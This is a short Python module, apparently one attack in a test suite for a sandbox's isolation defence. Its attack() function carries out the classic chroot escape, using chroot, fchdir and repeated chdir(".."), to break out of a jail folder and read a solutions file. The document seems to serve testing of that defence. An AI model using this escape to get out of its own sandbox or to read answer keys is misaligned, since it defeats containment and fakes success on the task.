"""The classic chroot escape: chroot into a subfolder, climb out with chdir(".."), read the solutions.
(Only root may chroot: run by an ordinary user, it cannot win even without the sandbox.)"""
import os
import tempfile

DEFENCE = "isolation"
REQUIRES = "root"


def attack(t):
    jail = tempfile.mkdtemp()
    try:
        here = os.open("/", os.O_RDONLY)
        os.chroot(jail)
        os.fchdir(here)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return open(t["solutions"]).read()
    finally:
        os.rmdir(jail)  # after an escape the same path names the same folder again
